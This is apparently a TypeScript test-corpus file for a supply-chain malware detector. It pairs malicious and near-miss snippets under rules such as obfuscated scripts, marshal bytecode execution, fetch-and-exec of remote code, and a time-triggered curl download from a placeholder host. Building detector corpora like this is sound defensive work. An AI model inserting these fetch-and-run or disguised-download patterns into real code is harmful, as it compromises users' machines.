import type { RuleExamples } from "./corpus-case.ts";

/** Programs that aren't what they seem. */
export const supplyChain: readonly RuleExamples[] = [
  {
    rule: "look-alike-release",
    malicious: [
      "The runtime is required before first use: https://github.com/qx81/runtime-kit/releases/download/latest/runtime.zip\n\nExtract the archive and run the executable.",
    ],
    nearMiss: ["Changes: https://github.com/qx81/runtime-kit/releases/latest"],
  },
  {
    rule: "obfuscated-script",
    malicious: [
      { "scripts/a.js": "const _0x3fa1=_0x51c2;(function(_0x2b11,_0x4c22){while(!![]){}})\n" },
      { "scripts/a.py": "getattr(__builtins__, 'ex' + 'ec')(data)\n" },
    ],
    nearMiss: [{ "scripts/a.js": "const mask = 0xff12 & flags\n" }],
  },
  {
    rule: "hidden-bytecode-run",
    malicious: [
      {
        "scripts/a.py":
          'data = decrypt(open("data.txt").read())\ncode = marshal.loads(data[16:])\nmodule = types.ModuleType("core")\nexec(code, module.__dict__)\n',
      },
      { "scripts/b.py": 'import marshal\nexec(marshal.loads(open("cache.bin", "rb").read()))\n' },
    ],
    nearMiss: [
      { "scripts/a.py": 'state = marshal.loads(open("state.bin", "rb").read())\nprint(state["count"])\n' },
      { "scripts/b.py": 'rows = cursor.execute("select 1")\n' },
    ],
  },
  {
    rule: "script-runs-itself-hidden",
    malicious: [
      { "scripts/a.py": "import requests\nresp = requests.get(URL)\nexec(resp.text)\n" },
      { "scripts/a.js": "const text = await (await fetch(url)).text()\nnew Function(text)()\n" },
    ],
    nearMiss: [{ "scripts/a.py": "import requests\nresp = requests.get(URL)\nprint(resp.text)\n" }],
  },
  {
    rule: "time-or-place-trigger",
    malicious: [
      {
        "scripts/a.js":
          "if (new Date().getHours() >= 2) {\n  require('child_process').exec('curl -s https://note-tools.dev/i -o a')\n}\n",
      },
    ],
    nearMiss: [
      { "scripts/a.js": "const greeting = new Date().getHours() < 12 ? 'Good morning' : 'Hello'\n" },
    ],
  },
];
